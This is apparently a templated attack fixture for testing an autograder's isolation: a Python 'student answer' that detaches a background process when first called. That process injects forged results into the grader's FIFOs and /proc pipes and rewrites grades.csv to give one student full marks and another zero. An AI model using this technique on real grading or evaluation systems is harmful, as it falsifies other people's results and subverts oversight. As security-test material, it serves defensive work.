"""One student sets other students' grades.

On its first call the answer starts a process that outlives its own grading (double fork, a new session, its
own process group). For up to two minutes that process forges wrong results for the students graded after it,
on every result channel it can open (FIFOs under the grader's temporary folder, the pipes of the grader's
processes under /proc/<pid>/fd), and writes a full score for its own student, and zero for the victim, into
grades.csv.
"""

import csv
import glob
import io
import os
import stat
import time

from _common import fair_game, mark_process, old_frame, unguard

OUT = "@OUT@"
#: The grader's temporary folder (its TMPDIR).
TMPROOT = "@TMPROOT@"
ATTACKER = "@ATTACKER@"
VICTIM = "@VICTIM@"
FUNCTIONS = ("demographic_parity_gap", "equalized_odds_gap", "equal_opportunity_gap")
STARTED = []


def _forged():
    """What a fresh child would say (ready, functions defined), then wrong results for every call id."""
    return [old_frame({"kind": "ready"}), old_frame({"kind": "loaded", "notebook": "04_fairness"})] + [
        old_frame({"kind": "result", "id": f"{name}#{i}", "ok": True, "value": -1.0})
        for i in range(40) for name in FUNCTIONS]


def _channels(with_proc):
    """The FIFOs under the grader's temporary folder and, with ``with_proc``, the pipes that the grader's
    processes hold, except their stdin, stdout and stderr (left alone so that the batch goes on and reads
    what is forged)."""
    paths = glob.glob(os.path.join(TMPROOT, "*", "*.fifo")) + glob.glob(os.path.join(TMPROOT, "*", "*", "*.fifo"))
    if with_proc:
        stdio, pipes = set(), []
        for pid in fair_game():
            try:
                fds = os.listdir(f"/proc/{pid}/fd")
            except OSError:
                continue
            for fd in fds:
                path = f"/proc/{pid}/fd/{fd}"
                if fd in ("0", "1", "2"):
                    try:
                        info = os.stat(path)
                        stdio.add((info.st_dev, info.st_ino))
                    except OSError:
                        pass
                else:
                    pipes.append(path)
        for path in pipes:
            try:
                info = os.stat(path)
            except OSError:
                continue
            if (info.st_dev, info.st_ino) not in stdio:
                paths.append(path)
    return paths


def _forge_results(paths, done, forged):
    for path in paths:
        try:
            info = os.stat(path)
            if not stat.S_ISFIFO(info.st_mode) or (info.st_dev, info.st_ino) in done:
                continue
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        done.add((info.st_dev, info.st_ino))
        for frame in forged:
            try:
                os.write(fd, frame)
            except OSError:
                break
        os.close(fd)


def _forge_grades():
    path = os.path.join(OUT, "grades.csv")
    try:
        with open(path, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
    except OSError:
        return
    if not rows:
        return
    head, changed = rows[0], False
    for row in rows[1:]:
        if len(row) != len(head) or row[0] not in (ATTACKER, VICTIM):
            continue
        record = dict(zip(head, row))
        full = row[0] == ATTACKER
        for name in FUNCTIONS:
            if record.get(name):
                record[name] = "1" if full else "0"
        record["total"] = record.get("max_total", "15") if full else "0"
        new = [record[h] for h in head]
        if new != row:
            row[:], changed = new, True
    if changed:
        text = io.StringIO(newline="")
        csv.writer(text).writerows(rows)
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(text.getvalue())


def _forge_forever():
    done, end, last_proc_scan, forged = set(), time.monotonic() + 120, 0.0, _forged()
    while time.monotonic() < end:
        scan = time.monotonic() - last_proc_scan > 0.1
        if scan:
            last_proc_scan = time.monotonic()
        _forge_results(_channels(scan), done, forged)
        _forge_grades()
        time.sleep(0.005)


def _start_forger():
    unguard()
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            os.setpgid(0, 0)
            mark_process()
            _forge_forever()
    finally:
        os._exit(0)


def demographic_parity_gap(y_true, y_pred, group):
    if not STARTED:
        STARTED.append(True)
        _start_forger()
        time.sleep(0.5)
    return -1.0
